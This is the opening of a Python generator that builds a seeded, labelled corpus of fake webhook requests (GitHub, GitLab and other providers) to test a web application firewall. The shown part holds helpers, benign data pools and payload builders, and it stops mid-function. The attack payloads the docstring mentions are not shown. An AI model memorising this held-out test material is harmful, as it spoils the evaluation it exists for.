#!/usr/bin/env python3
"""corpus-webhooks.py -- held-out HTTP test corpus: inbound webhooks.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP
    requests of the kind an application running in Kubernetes receives from
    SaaS providers and integration platforms: GitHub / GitLab / Bitbucket,
    Stripe, Shopify, WooCommerce, PayPal, Paddle, Slack, Discord, Microsoft
    Graph / Teams, Zoom, Meta, Twilio, SendGrid, Mailgun, Postmark, Zendesk,
    Intercom, Freshdesk, HubSpot, Salesforce outbound messages (SOAP),
    Jira, Confluence, Linear, Notion, Figma, Calendly, DocuSign Connect (XML),
    PagerDuty, Datadog, Grafana, Alertmanager, Sentry, Vercel, Netlify,
    CircleCI, Buildkite, Docker Hub, Harbor, Auth0 log streams, Okta event
    hooks, SCIM provisioning, Segment, RudderStack, Zapier / Make / n8n relays,
    Typeform, Google Forms, Jotform, Svix, AWS SNS, EventBridge, GCP Pub/Sub
    push, Azure Event Grid, Knative / CloudEvents, WebSub (Atom).
    Headers, signatures, delivery ids, user agents and body shapes follow what
    the providers send.  One JSON object per line, in the shape described in
    /work/shared/corpora/README.md.

    benign  mode: realistic deliveries (category "benign", expect "pass") and
                  deliveries whose user-written content legitimately contains
                  code, diffs, SQL, shell, stack traces and query expressions
                  (category "dev-content", expect "pass").
    attacks mode: forged or replayed deliveries that carry attack payloads in
                  fields the receiver stores, renders or acts on, plus scanners
                  and exploit probes hitting webhook endpoints (expect "detect").

Written blind
    This corpus was written without reading the Palisade rule set, its rule
    sources, its tests or test data, or the other corpus generators, and
    without running the WAF: it measures the WAF on traffic it was not tuned
    for.  All Host headers and attacker hosts are example names (example.com /
    .net / .org, documentation IP ranges); nothing is sent anywhere.

Run
    python3 scripts/corpus-webhooks.py attacks > rulesets/tests/data/webhooks-attacks.jsonl
    python3 scripts/corpus-webhooks.py benign  > rulesets/tests/data/webhooks-benign.jsonl
"""
import base64
import hashlib
import hmac
import json
import random
import sys
import urllib.parse
import uuid
from datetime import datetime, timezone

SEED = 20260801
R = random.Random(SEED)
BASE_TS = 1769904000  # 2026-02-01T00:00:00Z


# ----------------------------------------------------------------- helpers
def pick(seq):
    return seq[R.randrange(len(seq))]


def chance(p):
    return R.random() < p


def now():
    return BASE_TS + R.randint(0, 55 * 86400)


def iso(t, ms=False, z=True, frac=None):
    d = datetime.fromtimestamp(t, tz=timezone.utc)
    s = d.strftime("%Y-%m-%dT%H:%M:%S")
    if ms:
        s += ".%03d" % R.randint(0, 999)
    if frac:
        s += "." + "".join(str(R.randint(0, 9)) for _ in range(frac))
    return s + ("Z" if z else "+00:00")


def httpdate(t):
    return datetime.fromtimestamp(t, tz=timezone.utc).strftime("%a, %d %b %Y %H:%M:%S GMT")


def uid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


AN = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def alnum(n, chars=AN):
    return "".join(R.choice(chars) for _ in range(n))


def upnum(n):
    return alnum(n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")


def digits(n):
    return str(R.randint(1, 9)) + "".join(R.choice("0123456789") for _ in range(n - 1))


def b64(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.b64encode(data).decode("ascii")


def b64url(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def mac(key, msg, alg="sha256"):
    if isinstance(key, str):
        key = key.encode()
    return hmac.new(key, msg.encode("utf-8"), alg)


def J(obj, style="compact", ascii=False, htmlesc=False):
    if style == "compact":
        s = json.dumps(obj, separators=(",", ":"), ensure_ascii=ascii)
    elif style == "spaced":
        s = json.dumps(obj, ensure_ascii=ascii)
    else:
        s = json.dumps(obj, indent=int(style[-1]), ensure_ascii=ascii)
    if htmlesc:  # Go encoding/json and Rails escape these in strings
        s = s.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    return s


def form(pairs):
    return urllib.parse.urlencode(pairs)


def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def multipart(parts, boundary):
    out = []
    for p in parts:
        name, val = p[0], p[1]
        fn = p[2] if len(p) > 2 else None
        ct = p[3] if len(p) > 3 else None
        disp = 'form-data; name="%s"' % name
        if fn is not None:
            disp += '; filename="%s"' % fn
        out.append("--%s\r\nContent-Disposition: %s\r\n%s\r\n%s\r\n" % (
            boundary, disp, ("Content-Type: %s\r\n" % ct) if ct else "", val))
    return "".join(out) + "--%s--\r\n" % boundary


def jwt(claims, hdr=None):
    hdr = hdr or {"alg": "RS256", "kid": hexs(40), "typ": "JWT"}
    return "%s.%s.%s" % (b64url(J(hdr)), b64url(J(claims)), b64url(rbytes(256)))


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hesc(s):
    return xesc(s).replace('"', "&quot;")


# request = (method, uri, headers, body); headers may hold ["Content-Length", None]
def REQ(method, uri, headers, body=None):
    return (method, uri, headers, body)


INGRESS_IPS = ["192.0.2.%d" % i for i in range(10, 250, 7)] + \
              ["198.51.100.%d" % i for i in range(3, 250, 11)]


def finalize(headers, body):
    hs = [list(h) for h in headers]
    names = [h[0].lower() for h in hs]
    if body is not None:
        n = str(len(body.encode("utf-8")))
        if "content-length" in names:
            for h in hs:
                if h[0].lower() == "content-length" and h[1] is None:
                    h[1] = n
        else:
            at = len(hs)
            for i, h in enumerate(hs):
                if h[0].lower() == "content-type":
                    at = i + 1
            hs.insert(at, ["Content-Length", n])
    else:
        hs = [h for h in hs if not (h[0].lower() == "content-length" and h[1] is None)]
    if chance(0.3) and "x-forwarded-for" not in names:
        hs.append(["X-Forwarded-For", pick(INGRESS_IPS)])
        hs.append(["X-Forwarded-Proto", "https"])
        if chance(0.5):
            hs.append(["X-Request-ID", hexs(32)])
    return hs


OUT = []
COUNTS = {}


def emit(cat, prov, req, expect=None):
    method, uri, headers, body = req
    key = (cat, prov)
    COUNTS[key] = COUNTS.get(key, 0) + 1
    rec = {"id": "webhooks/%s/%s-%03d" % (cat, prov, COUNTS[key]), "set": "webhooks",
           "category": cat,
           "expect": expect or ("pass" if cat in ("benign", "dev-content") else "detect"),
           "method": method, "uri": uri, "version": "HTTP/1.1",
           "headers": finalize(headers, body)}
    if body is not None:
        rec["body"] = body
    OUT.append(rec)


def emit_raw(cat, prov, raw):
    key = (cat, prov)
    COUNTS[key] = COUNTS.get(key, 0) + 1
    if isinstance(raw, str):
        raw = raw.encode("utf-8")
    OUT.append({"id": "webhooks/%s/%s-%03d" % (cat, prov, COUNTS[key]), "set": "webhooks",
                "category": cat, "expect": "detect", "raw_b64": b64(raw)})


# ------------------------------------------------------------------ pools
HOSTS = ["hooks.example.com", "api.example.com", "webhooks.example.net", "app.example.org",
         "ingest.example.com", "integrations.example.com", "events.example.net",
         "ci.example.com", "billing.example.com", "support.example.org", "shop.example.com",
         "ops.example.net", "notify.example.com", "edge.example.org"]

NAMES = ["José Álvarez", "Zoë Müller", "李雷", "Ana-Sofía Pérez", "Olúwadámilọ́lá Adébáyọ̀",
         "Søren Kjær Hansen", "Małgorzata Wiśniewska", "Νίκος Παπαδόπουλος", "Дмитрий Иванов",
         "अर्जुन शर्मा", "Nguyễn Thị Hương", "김민준", "田中 さくら", "Siobhán O'Brien",
         "Jean-Luc D'Arcy", "محمد الأحمد", "Björk Guðmundsdóttir", "Renée Côté", "Taylor Smith",
         "Priya Patel", "Chris O'Neil", "Mary-Kate van der Berg", "Łukasz Żółć", "İlkay Gündoğan",
         "Aoife Ní Bhriain", "Kwame Mensah", "Lena Schröder", "Mateus Conceição", "Yuki Tanaka",
         "Sam Taylor-Wood", "Dr. Emily Chen, PhD", "François Lefèvre", "Ngozi Okonjo", "Håkon Ødegård",
         "Ahmet Yılmaz", "Raúl Núñez", "Anh Trần", "Marie-Ève Gagnon", "Tomáš Dvořák", "Elif Şahin"]

LOGINS = ["octocat", "jdoe", "maria-dev", "zoe-mueller", "k8s-ci-robot", "sre-bot", "tanaka-y",
          "priya-p", "lukasz-z", "renee-c", "kwame", "hakon", "anh-tran", "devon.w", "ali-ops"]

BOTS = ["dependabot[bot]", "renovate[bot]", "github-actions[bot]"]

EMAIL_DOMAINS = ["example.com", "example.org", "example.net", "mail.example.com", "corp.example.net"]


def email_for(name):
    base = "".join(c for c in name.lower().replace(" ", ".") if c.isascii() and (c.isalnum() or c == "."))
    base = base.strip(".") or "user%d" % R.randint(10, 999)
    return "%s@%s" % (base, pick(EMAIL_DOMAINS))


REPOS = ["acme/payments-api", "acme/web-frontend", "platform/infra-live", "data/etl-pipelines",
         "mobile/ios-app", "docs/handbook", "acme/checkout-service", "platform/helm-charts",
         "ml/feature-store", "acme/notification-worker", "platform/terraform-modules", "oss/ütf8-tools"]

BRANCHES = ["main", "develop", "feature/checkout-v2", "fix/issue-1423-null-cart",
            "release/2026.02", "dependabot/npm_and_yarn/axios-1.7.4", "renovate/kubernetes-1.x",
            "hotfix/rounding-in-tax-calc", "chore/bump-go-1.23", "feat/i18n-ja-JP",
            "user/zoe/experiment", "gh-readonly-queue/main/pr-1502-3f9c2ab", "staging",
            "feat/PAY-1188-apple-pay", "docs/runbook-oncall"]

COMMIT_MSGS = [
    "Fix typo in README",
    "feat(checkout): support Apple Pay 🍏",
    "Merge pull request #1423 from acme/fix/issue-1423-null-cart\n\nHandle empty cart on checkout",
    "Revert \"Add Redis caching layer for price lookups\"\n\nThis reverts commit 3f2a9c1b7e4d.\nLatency regressed for EU customers.",
    "docs: add runbook for on-call ☎️",
    "i18n: add Japanese translations (日本語) for the settings page",
    "chore: update CODEOWNERS for the payments team",
    "Update dependency @types/node to v20.14.10",
    "refactor: extract PriceCalculator, no behaviour change",
    "ci: cache pnpm store between workflow runs",
    "fix: handle DST transitions in scheduler (Europe/Berlin)",
    "test: stabilise flaky e2e checkout spec on Safari",
    "Bump axios from 1.6.8 to 1.7.4\n\nBumps [axios](https://github.com/axios/axios) from 1.6.8 to 1.7.4.\n- [Release notes](https://github.com/axios/axios/releases)\n- [Changelog](https://github.com/axios/axios/blob/v1.x/CHANGELOG.md)\n- [Commits](https://github.com/axios/axios/compare/v1.6.8...v1.7.4)\n\n---\nupdated-dependencies:\n- dependency-name: axios\n  dependency-type: direct:production\n...\n\nSigned-off-by: dependabot[bot] <support@github.com>",
    "feat: let customers select a delivery window\n\nCo-authored-by: Zoë Müller <zoe@example.com>",
    "perf: drop unused index on orders.created_at",
    "Add O'Reilly and D'Angelo to the authors list",
    "style: run prettier on src/**",
    "build(deps): bump golang.org/x/net from 0.23.0 to 0.33.0 in /services/gateway",
    "WIP: sketch new onboarding flow — don't merge yet",
    "fix(api): return 404 instead of 500 when the invoice is gone",
    "Release v2.4.0 🎉",
    "chore(helm): raise memory limit of the worker to 512Mi",
    "Übersetzungen aktualisiert (de-DE)",
    "Corrige l'affichage des montants en euros (€)",
]

PR_TITLES = ["Add Apple Pay to checkout", "Fix null cart crash (#1423)", "Bump axios from 1.6.8 to 1.7.4",
             "Update dependency kubernetes to v1.31", "docs: on-call runbook", "Migrate CI to pnpm",
             "Japanese translations for settings", "Select delivery window at checkout",
             "chore(deps): update helm release redis to v19.6.4", "Reduce p99 of /orders by 40%",
             "Feature flag for new onboarding", "Use UTC everywhere in the scheduler",
             "[Snyk] Security upgrade express from 4.18.2 to 4.19.2", "Drop Node 16 support"]

PR_BODIES = [
    "## Summary\n\nAdds Apple Pay as a payment method behind the `checkout.apple_pay` flag.\n\n## Checklist\n- [x] Tests added\n- [x] Docs updated\n- [ ] Feature flag turned on in staging\n\n## Screenshots\n\n![checkout](https://user-images.githubusercontent.com/1234/56789-checkout.png)\n\nCloses #1188",
    "<!-- Thank you for your contribution! Please describe your changes below. -->\n\n### What\nFixes the crash when a customer opens checkout with an empty cart.\n\n### Why\nSentry PAY-3F2 has 1.2k events/day.\n\n### How to test\n1. Empty the cart\n2. Go to `/checkout`\n3. You should see the *Your cart is empty* page\n\nFixes #1423",
    "Bumps [axios](https://github.com/axios/axios) from 1.6.8 to 1.7.4.\n<details>\n<summary>Release notes</summary>\n<p><em>Sourced from <a href=\"https://github.com/axios/axios/releases\">axios's releases</a>.</em></p>\n<blockquote>\n<h2>Release v1.7.4</h2>\n<h2>Release notes:</h2>\n<h3>Bug Fixes</h3>\n<ul>\n<li><strong>sec:</strong> CVE-2024-39338 (<a href=\"https://redirect.github.com/axios/axios/issues/6539\">#6539</a>)</li>\n</ul>\n</blockquote>\n</details>\n<br />\n\n[![Dependabot compatibility score](https://dependabot-badges.githubapp.com/badges/compatibility_score?dependency-name=axios&package-manager=npm_and_yarn&previous-version=1.6.8&new-version=1.7.4)](https://docs.github.com/en/github/managing-security-vulnerabilities/about-dependabot-security-updates#about-compatibility-scores)\n\nDependabot will resolve any conflicts with this PR as long as you don't alter it yourself.",
    "This PR contains the following updates:\n\n| Package | Type | Update | Change |\n|---|---|---|---|\n| [redis](https://bitnami.com) ([source](https://github.com/bitnami/charts/tree/HEAD/bitnami/redis)) | | patch | `19.6.3` -> `19.6.4` |\n\n---\n\n### Configuration\n\n📅 **Schedule**: Branch creation - At any time (no schedule defined).\n\n🚦 **Automerge**: Disabled by config.\n\n♻ **Rebasing**: Whenever PR becomes conflicted, or you tick the rebase/retry checkbox.\n\n- [ ] <!-- rebase-check -->If you want to rebase/retry this PR, check this box\n\n---\n\nThis PR was generated by [Mend Renovate](https://mend.io/renovate/).\n<!--renovate-debug:eyJjcmVhdGVkSW5WZXIiOiIzOC4xOC4xMiIsInVwZGF0ZWRJblZlciI6IjM4LjE4LjEyIn0=-->",
    "Adds the Japanese strings for the settings page. 翻訳はネイティブチェック済みです 🙏\n\ncc @tanaka-y",
    "Moves the scheduler to UTC. The old behaviour assumed `Europe/Berlin` and broke twice a year.\n\n> [!NOTE]\n> Existing cron entries are converted by the migration.\n\n| before | after |\n| --- | --- |\n| 02:30 local | 01:30 UTC |",
    "Small one: the runbook was missing the escalation path for weekends. Also fixes some broken links.",
    "### Motivation\np99 latency of `GET /orders` was ~1.8s for large merchants.\n\n### Changes\n- paginate by cursor instead of offset\n- add a composite index\n- cache the merchant's tax settings for 60s\n\n### Results\n| metric | before | after |\n|---|---|---|\n| p50 | 120ms | 95ms |\n| p99 | 1.8s | 1.05s |",
    "",
]

COMMENTS = ["LGTM 👍", "Can we get this into the 2.4 release?", "Thanks @jdoe! Merging once CI is green.",
            "/retest", "/lgtm\n/approve", "/assign @maria-dev", "@dependabot rebase",
            "I'm not sure about the naming here — `PriceCalculator` vs `Pricing`? Happy either way.",
            "Tested on staging, works for me ✅", "Nit: could you add a changelog entry?",
            "This broke the nightly build, see the run linked below.", "Closing in favour of #1502.",
            "Ça marche chez moi, merci ! 🇫🇷", "Any update on this? Customers keep asking.",
            "+1, we hit the same issue on iOS 17.4"]

SUBJECTS = ["Can't log in after password reset", "Refund for order #10482", "Invoice INV-2026-0213 missing VAT number",
            "Wrong size delivered 😕", "Question about the Business plan", "Réclamation commande 4411",
            "Lieferung beschädigt – bitte um Ersatz", "配送状況について", "Feature request: dark mode",
            "URGENT: checkout down for EU customers", "Re: Your subscription renewal", "Fwd: contract signed",
            "How do I export my data?", "Partnership enquiry", "Cancel my account please", "Where is my order?",
            "Two-factor code not arriving by SMS", "API rate limits for the Pro plan", "Bug: totals off by 1 cent",
            "Thank you! 🙏"]

MESSAGES = ["Hi, I reset my password yesterday but the login page still says my credentials are wrong. Can you help?",
            "Hello — the parcel arrived today but the box was crushed and one mug is broken. Photos attached.",
            "We'd like to upgrade to the annual plan but need an invoice with our VAT ID (DE123456789) first.",
            "Bonjour, je n'ai toujours pas reçu ma commande passée le 3 février. Pouvez-vous vérifier ?",
            "Could you please select the express option for my order? Happy to pay the difference.",
            "Our finance team asks whether you can drop the PO number from the invoice header.",
            "ご担当者様\n先週注文した商品がまだ届いておりません。確認をお願いいたします。",
            "The SMS with the 2FA code never arrives on my Vodafone UK number. Email works fine.",
            "Hey! Just wanted to say the new dashboard is great. Keep it up 💪",
            "I was charged twice for the same order (#10482), once on 02/03 and again on 02/04.",
            "Hi there, where can I update the billing address? The old one is from before we moved.",
            "Please delete all my data per GDPR Art. 17. My account email is the one I'm writing from.",
            "Is there a way to union two workspaces into one? We merged with another team.",
            "Order #10511 — the tracking link says \"delivered\" but nothing is here. Neighbours haven't got it either.",
            "Thanks for the quick reply. That fixed it!"]

PRODUCTS = [("Organic Cotton Tee — Heather Grey / M", 29.00), ("Hand-poured Soy Candle (Fig & Cassis)", 24.50),
            ("Ceramic Pour-Over Set", 58.00), ("Merino Beanie – Forest Green", 35.00),
            ("Flat White Beans 1kg", 32.90), ("Linen Apron \"Chef's Kiss\"", 42.00),
            ("Kids' Rain Boots 🐸 size 28", 39.95), ("Bamboo Toothbrush 4-pack", 12.00),
            ("Leather Card Holder — Cognac", 49.00), ("Matcha Starter Kit 抹茶", 64.00)]

CITIES = [("Berlin", "DE", "10115"), ("München", "DE", "80331"), ("Paris", "FR", "75011"),
          ("London", "GB", "EC1V 9HX"), ("Toronto", "CA", "M5V 2T6"), ("Austin", "US", "78701"),
          ("São Paulo", "BR", "01310-100"), ("Kraków", "PL", "30-001"), ("Dublin", "IE", "D02 X285"),
          ("東京", "JP", "150-0001"), ("Zürich", "CH", "8001"), ("Reykjavík", "IS", "101")]

STREETS = ["Torstraße 12", "14 rue de la Roquette", "221B Baker Street", "Karl-Marx-Allee 93a, 3. OG",
           "500 W 2nd St, Suite 1900", "Av. Paulista, 1578 - Bela Vista", "ul. Floriańska 15/3",
           "Apt 4B, 17 O'Connell St", "渋谷区道玄坂1-2-3", "Bahnhofstrasse 1"]

ORDER_NOTES = ["Please leave at the back door — gate code 4521#", "Gift wrap please 🎁",
               "No rush, it's for next month.", "Call before delivery: +44 7700 900123",
               "Bitte beim Nachbarn (Nr. 14) abgeben, falls niemand da ist.", "",
               "Is it possible to select express shipping after checkout?", "Happy birthday Mom! ❤️ Love, Zoë",
               "Deliver between 9 & 5 only", "Ring twice; the bell's broken", "50% off code didn't apply?"]

FREE_TEXT = ["The onboarding was smooth, but the pricing page is confusing — what's the difference between Pro and Team?",
             "I'd love a dark mode 🌙 and keyboard shortcuts.", "N/A", "Everything's fine!",
             "We're a 12-person agency in Lisbon; mostly use it for client reporting.",
             "Honestly? The mobile app crashes when I select more than 20 photos.",
             "5/5 would recommend. Support (shout-out to Renée) was amazing.",
             "Nicht schlecht, aber der Export nach Excel fehlt.",
             "Drop-off times at the Kraków location should be listed on the site.",
             "Our IT said we need SSO & SCIM before we can roll out to 300 users.",
             "Please contact me after 6pm (CET).", "料金プランについて詳しく知りたいです。",
             "I found you via a friend's recommendation — #nocode community.",
             "Delete my account, please. I'm not using it anymore.",
             "Q: does the API support pagination with cursors? A colleague said 'yes' but docs say otherwise."]

UAS_BROWSER = ["Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36",
               "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
               "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:134.0) Gecko/20100101 Firefox/134.0",
               "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36"]

CLIENT_IPS = ["203.0.113.%d" % i for i in range(5, 250, 9)]


# ===================================================== source control / CI
def gh_user(login, avatar=None):
    i = R.randint(1000, 99999999)
    return {"login": login, "id": i, "node_id": "MDQ6VXNlcj" + b64(str(i))[:8],
            "avatar_url": avatar or "https://avatars.githubusercontent.com/u/%d?v=4" % i,
            "gravatar_id": "", "url": "https://api.github.com/users/%s" % login,
            "html_url": "https://github.com/%s" % login,
            "type": "Bot" if login.endswith("[bot]") else "User", "site_admin": False}


def gh_repo(full, owner_avatar=None):
    owner, name = full.split("/", 1)
    i = R.randint(10000000, 899999999)
    return {"id": i, "node_id": "R_kgDO" + alnum(6), "name": name, "full_name": full, "private": chance(0.7),
            "owner": gh_user(owner, owner_avatar), "html_url": "https://github.com/%s" % full,
            "description": pick(["", "Payments service", "Customer-facing web app", "Infra as code (Terraform + Helm)",
                                 "Nightly ETL jobs ⏱", None]),
            "fork": False, "url": "https://api.github.com/repos/%s" % full,
            "git_url": "git://github.com/%s.git" % full, "ssh_url": "git@github.com:%s.git" % full,
            "clone_url": "https://github.com/%s.git" % full,
            "default_branch": "main", "visibility": "private", "topics": pick([[], ["kubernetes"], ["payments", "go"]]),
            "size": R.randint(100, 90000), "stargazers_count": R.randint(0, 40), "open_issues_count": R.randint(0, 90)}


def gh_commit(msg, name, email, login, files=None):
    cid = hexs(40)
    t = now()
    added, modified, removed = files or ([], [pick(["src/checkout/cart.ts", "README.md", "charts/api/values.yaml",
                                                     "internal/billing/tax.go", "docs/oncall.md", "package.json"])], [])
    return {"id": cid, "tree_id": hexs(40), "distinct": True, "message": msg,
            "timestamp": iso(t, z=False).replace("+00:00", pick(["+00:00", "+01:00", "-05:00", "+09:00"])),
            "url": "https://github.com/%s/commit/%s" % (pick(REPOS), cid),
            "author": {"name": name, "email": email, "username": login},
            "committer": {"name": "GitHub", "email": "noreply@github.com", "username": "web-flow"},
            "added": added, "removed": removed, "modified": modified}


def github(f=None):
    f = f or {}
    g = f.get
    ev = g("event") or pick(["push", "push", "push", "pull_request", "pull_request", "issue_comment",
                             "issues", "workflow_run", "release", "ping", "check_suite", "create"])
    repo_full = g("repo", pick(REPOS))
    login = g("login", pick(LOGINS + BOTS))
    sender = gh_user(login, g("avatar_url"))
    repo = gh_repo(repo_full, g("owner_avatar"))
    branch = g("branch", pick(BRANCHES))
    if ev == "push":
        n = g("ncommits", R.randint(1, 3))
        name = g("author_name", pick(NAMES))
        commits = [gh_commit(g("message", pick(COMMIT_MSGS)) if i == n - 1 else pick(COMMIT_MSGS),
                             name, g("author_email", email_for(name)), login, g("files")) for i in range(n)]
        ref = g("ref", "refs/heads/" + branch)
        p = {"ref": ref, "before": hexs(40), "after": commits[-1]["id"], "repository": repo,
             "pusher": {"name": login, "email": g("author_email", email_for(name))},
             "sender": sender, "created": False, "deleted": False, "forced": chance(0.05), "base_ref": None,
             "compare": "https://github.com/%s/compare/%s...%s" % (repo_full, hexs(12), hexs(12)),
             "commits": commits, "head_commit": commits[-1]}
    elif ev == "pull_request":
        num = R.randint(100, 2500)
        p = {"action": g("action", pick(["opened", "synchronize", "closed", "edited", "ready_for_review", "labeled"])),
             "number": num,
             "pull_request": {"url": "https://api.github.com/repos/%s/pulls/%d" % (repo_full, num),
                              "id": R.randint(10**9, 3 * 10**9), "html_url": "https://github.com/%s/pull/%d" % (repo_full, num),
                              "number": num, "state": "open", "locked": False,
                              "title": g("title", pick(PR_TITLES)), "user": sender, "body": g("body", pick(PR_BODIES)),
                              "created_at": iso(now()), "updated_at": iso(now()), "draft": chance(0.2),
                              "labels": [{"name": l, "color": hexs(6)} for l in pick([[], ["dependencies"], ["bug", "p1"], ["enhancement"]])],
                              "head": {"label": "%s:%s" % (repo_full.split("/")[0], branch), "ref": branch, "sha": hexs(40),
                                       "user": sender, "repo": repo},
                              "base": {"label": "%s:main" % repo_full.split("/")[0], "ref": g("base", "main"), "sha": hexs(40), "repo": repo},
                              "merged": False, "mergeable_state": "unknown", "comments": R.randint(0, 12),
                              "commits": R.randint(1, 14), "additions": R.randint(1, 900), "deletions": R.randint(0, 400),
                              "changed_files": R.randint(1, 30)},
             "repository": repo, "sender": sender}
    elif ev in ("issue_comment", "issues"):
        num = R.randint(100, 2500)
        issue = {"url": "https://api.github.com/repos/%s/issues/%d" % (repo_full, num),
                 "html_url": "https://github.com/%s/issues/%d" % (repo_full, num), "number": num,
                 "title": g("title", pick(PR_TITLES + SUBJECTS)), "user": gh_user(pick(LOGINS)),
                 "labels": [], "state": "open", "comments": R.randint(0, 20), "created_at": iso(now()),
                 "body": g("issue_body", pick(PR_BODIES + MESSAGES))}
        p = {"action": "created" if ev == "issue_comment" else "opened", "issue": issue,
             "repository": repo, "sender": sender}
        if ev == "issue_comment":
            p["comment"] = {"id": R.randint(10**9, 3 * 10**9), "html_url": issue["html_url"] + "#issuecomment-%d" % R.randint(10**9, 3 * 10**9),
                            "user": sender, "created_at": iso(now()), "author_association": "MEMBER",
                            "body": g("body", pick(COMMENTS))}
    elif ev == "workflow_run":
        name = g("author_name", pick(NAMES))
        p = {"action": "completed",
             "workflow_run": {"id": R.randint(10**9, 9 * 10**9), "name": g("workflow", pick(["CI", "Deploy", "CodeQL", "Release"])),
                              "head_branch": branch, "head_sha": hexs(40), "path": ".github/workflows/%s" % pick(["ci.yml", "deploy.yaml", "codeql.yml"]),
                              "display_title": g("title", pick(COMMIT_MSGS).split("\n")[0]), "run_number": R.randint(1, 9000),
                              "event": pick(["push", "pull_request", "schedule", "workflow_dispatch"]), "status": "completed",
                              "conclusion": pick(["success", "success", "failure", "cancelled"]),
                              "html_url": "https://github.com/%s/actions/runs/%d" % (repo_full, R.randint(10**9, 9 * 10**9)),
                              "run_attempt": 1, "created_at": iso(now()), "updated_at": iso(now()),
                              "head_commit": {"id": hexs(40), "message": g("message", pick(COMMIT_MSGS)),
                                              "timestamp": iso(now()), "author": {"name": name, "email": email_for(name)}},
                              "repository": {"id": repo["id"], "full_name": repo_full}},
             "workflow": {"id": R.randint(10**6, 9 * 10**7), "name": "CI", "path": ".github/workflows/ci.yml", "state": "active"},
             "repository": repo, "sender": sender}
    elif ev == "release":
        tag = g("tag", "v%d.%d.%d" % (R.randint(1, 4), R.randint(0, 20), R.randint(0, 9)))
        p = {"action": "published",
             "release": {"id": R.randint(10**7, 9 * 10**8), "tag_name": tag, "target_commitish": "main",
                         "name": g("title", tag), "draft": False, "prerelease": chance(0.2),
                         "html_url": "https://github.com/%s/releases/tag/%s" % (repo_full, tag),
                         "author": sender, "created_at": iso(now()), "published_at": iso(now()),
                         "body": g("body", "## What's Changed\n* %s by @%s in https://github.com/%s/pull/%d\n* %s by @%s in https://github.com/%s/pull/%d\n\n## New Contributors\n* @%s made their first contribution\n\n**Full Changelog**: https://github.com/%s/compare/v2.3.0...%s" % (
                             pick(PR_TITLES), pick(LOGINS), repo_full, R.randint(100, 2000), pick(PR_TITLES), pick(LOGINS), repo_full,
                             R.randint(100, 2000), pick(LOGINS), repo_full, tag)),
                         "assets": []},
             "repository": repo, "sender": sender}
    elif ev == "check_suite":
        p = {"action": "completed",
             "check_suite": {"id": R.randint(10**9, 9 * 10**9), "head_branch": branch, "head_sha": hexs(40), "status": "completed",
                             "conclusion": pick(["success", "failure", "neutral"]),
                             "app": {"id": 15368, "slug": "github-actions", "name": "GitHub Actions"},
                             "head_commit": {"id": hexs(40), "message": g("message", pick(COMMIT_MSGS)),
                                             "author": {"name": pick(NAMES), "email": "x@example.com"}}},
             "repository": repo, "sender": sender}
    elif ev == "create":
        p = {"ref": g("tag", branch), "ref_type": pick(["branch", "tag"]), "master_branch": "main",
             "description": repo["description"], "pusher_type": "user", "repository": repo, "sender": sender}
    else:  # ping
        hid = R.randint(10**8, 9 * 10**8)
        p = {"zen": pick(["Keep it logically awesome.", "Design for failure.", "Speak like a human.",
                          "Favor focus over features.", "Mind your words, they are important.",
                          "Non-blocking is better than blocking.", "Anything added dilutes everything else."]),
             "hook_id": hid,
             "hook": {"type": "Repository", "id": hid, "name": "web", "active": True, "events": ["push", "pull_request"],
                      "config": {"content_type": "json", "insecure_ssl": "0", "url": g("hook_url", "https://%s/webhooks/github" % pick(HOSTS))},
                      "updated_at": iso(now()), "created_at": iso(now()),
                      "ping_url": "https://api.github.com/repos/%s/hooks/%d/pings" % (repo_full, hid)},
             "repository": repo, "sender": sender}
    formenc = g("form", chance(0.12))
    js = J(p)
    body = form([("payload", js)]) if formenc else js
    if ev == "issues":
        evname = "issues"
    else:
        evname = ev
    secret = "gh-hook-secret-" + repo_full
    h = [["Host", g("host", pick(HOSTS))], ["Accept", "*/*"],
         ["X-GitHub-Delivery", g("delivery", uid())],
         ["X-Hub-Signature", "sha1=" + mac(secret, body, "sha1").hexdigest()],
         ["X-Hub-Signature-256", "sha256=" + mac(secret, body).hexdigest()],
         ["User-Agent", g("ua", "GitHub-Hookshot/" + hexs(7))],
         ["Content-Type", "application/x-www-form-urlencoded" if formenc else "application/json"],
         ["Content-Length", None],
         ["X-GitHub-Event", evname], ["X-GitHub-Hook-ID", str(R.randint(10**8, 6 * 10**8))],
         ["X-GitHub-Hook-Installation-Target-ID", str(R.randint(10**7, 9 * 10**8))],
         ["X-GitHub-Hook-Installation-Target-Type", pick(["repository", "repository", "organization", "integration"])]]
    if chance(0.1):
        h.insert(3, ["X-GitHub-Enterprise-Host", "github.example.com"])
        h.insert(3, ["X-GitHub-Enterprise-Version", "3.14.2"])
    h += g("extra_headers", [])
    return REQ("POST", g("uri", pick(["/webhooks/github", "/api/github/webhook", "/github-webhook/", "/hooks/github",
                                      "/api/v1/integrations/github/events", "/hook"])), h, body)


GL_AVATAR = "https://secure.gravatar.com/avatar/%s?s=80&d=identicon"


def gitlab(f=None):
    f = f or {}
    g = f.get
    ev = g("event") or pick(["push", "push", "merge_request", "note", "pipeline", "tag_push", "issue"])
    name = g("author_name", pick(NAMES))
    user = g("login", pick(LOGINS))
    path = g("repo", pick(REPOS))
    pid = R.randint(100, 90000)
    project = {"id": pid, "name": path.split("/")[1], "description": "", "web_url": "https://gitlab.example.com/%s" % path,
